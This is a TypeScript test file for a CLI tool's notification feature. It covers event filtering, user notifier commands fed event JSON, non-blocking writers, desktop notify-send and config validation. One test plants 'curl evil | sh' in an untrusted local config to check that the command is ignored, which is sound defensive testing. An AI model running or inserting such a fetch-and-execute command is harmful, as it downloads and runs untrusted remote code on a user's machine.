// Notifications with real processes: which events notify, the user's command gets the event JSON
// on stdin, the writer never waits for a slow notifier, a desktop notifier is used when present
// and silently skipped when absent; and the [notify] config keys.
import { test, describe, before, after } from "node:test";
import assert from "node:assert/strict";
import { chmodSync, existsSync, mkdirSync, mkdtempSync, readFileSync, realpathSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { loadConfig } from "../../src/config/load.js";
import { parseValueForKey, writeConfigValue } from "../../src/config/edit.js";
import { appendEvent } from "../../src/events/append.js";
import { findOnPath, notify, notifyKind, notifyPolicy } from "../../src/events/notify.js";
import type { EventInput, GwqEvent, NotifyPolicy } from "../../src/events/types.js";
import { eventually } from "../helpers/sandbox.js";

let root: string;
let n = 0;
const fresh = () => {
  const d = join(root, `n${++n}`);
  mkdirSync(d);
  return d;
};
const base = { session: "gwq-claude-auth-20260101000000", id: "ab12cd34", identifier: "auth", context: "claude", worktree: "feature/auth" };
const state = (to: string, reason: string | null = null): EventInput => ({ ...base, type: "state", from: "working", to, source: "hook", reason });
const asEvent = (e: EventInput, seq = 1): GwqEvent => ({ ...e, seq, time: "2026-01-01T00:00:00.000+00:00" });
const env = (path: string) => ({ ...process.env, PATH: path, HOME: root, DBUS_SESSION_BUS_ADDRESS: "unix:path=/nonexistent" });

before(() => (root = realpathSync(mkdtempSync(join(tmpdir(), "gwq-nt-")))));
after(() => rmSync(root, { recursive: true, force: true }));

describe("which events notify", () => {
  test("state → waiting/idle, ended → completed/failed, detached; never created, working or removed", () => {
    assert.equal(notifyKind(asEvent(state("waiting"))), "waiting");
    assert.equal(notifyKind(asEvent(state("idle"))), "idle");
    assert.equal(notifyKind(asEvent(state("working"))), null);
    assert.equal(notifyKind(asEvent({ ...base, type: "ended", status: "failed", exit_code: 1 })), "failed");
    assert.equal(notifyKind(asEvent({ ...base, type: "ended", status: "completed", exit_code: 0 })), "completed");
    assert.equal(notifyKind(asEvent({ ...base, type: "detached", reason: "server-exited" })), "detached");
    assert.equal(notifyKind(asEvent({ ...base, type: "created" })), null);
    assert.equal(notifyKind(asEvent({ ...base, type: "removed" })), null);
  });

  test("`on` filters: an event kind not listed starts nothing", () => {
    const policy: NotifyPolicy = { on: ["failed"], desktop: false, command: "cat > /dev/null" };
    assert.deepEqual(notify(asEvent(state("waiting")), policy), []);
    assert.deepEqual(notify(asEvent({ ...base, type: "ended", status: "failed", exit_code: 2 }), policy), ["/bin/sh"]);
  });
});

describe("the user's command", () => {
  test("runs by the policy's shell with the event JSON on stdin and GWQ_EVENT set; one line per event", async () => {
    const dir = fresh();
    const out = join(dir, "notified.jsonl");
    const policy: NotifyPolicy = { on: ["waiting"], desktop: false, command: `{ cat; echo "$GWQ_EVENT"; } >> '${out}'`, shell: "/bin/sh" };
    const ev = appendEvent(dir, state("waiting", "Allow Bash: rm -rf build?"), policy);
    const text = await eventually(() => {
      const t = existsSync(out) ? readFileSync(out, "utf8") : "";
      return t.endsWith("waiting\n") ? t : null;
    }, 10000, "the notifier's output");
    const [json, kind] = text.trimEnd().split("\n");
    assert.deepEqual(JSON.parse(json!), ev);
    assert.equal(kind, "waiting");
  });

  test("a slow notifier never delays the writer: it returns before the notifier is done", async () => {
    const dir = fresh();
    const marker = join(dir, "notifier-finished");
    const policy: NotifyPolicy = { on: ["waiting"], desktop: false, command: `sleep 2; touch '${marker}'` };
    appendEvent(dir, state("waiting"), policy);
    // The append has returned: the notifier cannot have finished its two seconds.
    assert.equal(existsSync(marker), false);
    await eventually(() => existsSync(marker), 15000, "the slow notifier finishing on its own");
  });

  test("a failing or missing notifier is silent: the writer carries on", () => {
    const dir = fresh();
    assert.equal(appendEvent(dir, state("waiting"), { on: ["waiting"], desktop: false, command: "exit 3" }).seq, 1);
    assert.equal(appendEvent(dir, state("waiting"), { on: ["waiting"], desktop: false, command: "true", shell: join(dir, "no-such-shell") }).seq, 2);
  });
});

describe("desktop", () => {
  test("notify-send on PATH is run with a title and the reason; found without spawning anything", async () => {
    const bin = fresh();
    const out = join(bin, "args");
    writeFileSync(join(bin, "notify-send"), `#!/bin/sh\nprintf '%s\\n' "$@" > '${out}'\n`);
    chmodSync(join(bin, "notify-send"), 0o755);
    assert.equal(findOnPath("notify-send", `/nonexistent:${bin}`), join(bin, "notify-send"));
    const started = notify(asEvent(state("waiting", "-rf build?")), { on: ["waiting"], desktop: true, command: "" }, env(`${bin}:/usr/bin:/bin`));
    assert.deepEqual(started, [join(bin, "notify-send")]);
    const args = await eventually(() => (existsSync(out) ? readFileSync(out, "utf8") : null), 10000, "notify-send's arguments");
    assert.equal(args, "--\ngwq: claude auth waiting\n-rf build?\n");
  });

  test("no desktop notifier on PATH: silently skipped", () => {
    const empty = fresh();
    assert.equal(findOnPath("notify-send", empty), null);
    assert.deepEqual(notify(asEvent(state("waiting")), { on: ["waiting"], desktop: true, command: "" }, env(empty)), []);
  });

  test("Linux without a desktop session: notify-send is not even started", { skip: process.platform !== "linux" ? "Linux only" : false }, () => {
    const bin = fresh();
    writeFileSync(join(bin, "notify-send"), "#!/bin/sh\n");
    chmodSync(join(bin, "notify-send"), 0o755);
    const headless = { PATH: bin, HOME: root };
    assert.deepEqual(notify(asEvent(state("waiting")), { on: ["waiting"], desktop: true, command: "" }, headless), []);
  });
});

describe("[notify] config", () => {
  let cfgRoot: string;
  let globalPath: string;
  let cwd: string;
  before(() => {
    cfgRoot = fresh();
    globalPath = join(cfgRoot, "config.toml");
    cwd = join(cfgRoot, "project");
    mkdirSync(cwd);
    process.env.XDG_STATE_HOME = join(cfgRoot, "state");
  });

  test("defaults: on waiting and failed, desktop on, no command; the policy snapshot adds the shell", () => {
    const { config } = loadConfig({ cwd, globalPath });
    assert.deepEqual(config.notify, { on: ["waiting", "failed"], desktop: true, command: "" });
    assert.deepEqual(notifyPolicy(config), { on: ["waiting", "failed"], desktop: true, command: "", shell: config.tmux.default_shell });
  });

  test("values are checked: an unknown `on` value names the valid ones", () => {
    writeFileSync(globalPath, '[notify]\non = ["waiting", "done"]\n');
    assert.throws(() => loadConfig({ cwd, globalPath }), /notify\.on: unknown value "done" \(valid: waiting, failed, idle, completed, detached\)/);
    writeFileSync(globalPath, '[notify]\non = "waiting"\n');
    assert.throws(() => loadConfig({ cwd, globalPath }), /notify\.on: expected an array of strings/);
    writeFileSync(globalPath, '[notify]\non = ["idle", "detached"]\ndesktop = false\ncommand = "my-notifier --json"\n');
    assert.deepEqual(loadConfig({ cwd, globalPath }).config.notify, { on: ["idle", "detached"], desktop: false, command: "my-notifier --json" });
  });

  test("command is a program key: ignored from an untrusted local file, with a warning", () => {
    writeFileSync(globalPath, "");
    writeFileSync(join(cwd, ".gwq.toml"), '[notify]\ncommand = "curl evil | sh"\non = ["completed"]\n');
    const { config, warnings } = loadConfig({ cwd, globalPath });
    assert.equal(config.notify.command, "");
    assert.deepEqual(config.notify.on, ["completed"]);
    assert.ok(warnings.some((w) => w.includes("notify.command ignored")), warnings.join("|"));
    rmSync(join(cwd, ".gwq.toml"));
  });

  test("`config set notify.on` takes a comma-separated list", () => {
    writeFileSync(globalPath, "");
    const v = parseValueForKey("notify.on", "waiting, completed");
    assert.deepEqual(v, ["waiting", "completed"]);
    writeConfigValue(globalPath, "", "notify.on", v);
    assert.deepEqual(loadConfig({ cwd, globalPath }).config.notify.on, ["waiting", "completed"]);
    assert.throws(() => parseValueForKey("notify.on", "waiting,nope"), /unknown value "nope"/);
  });
});
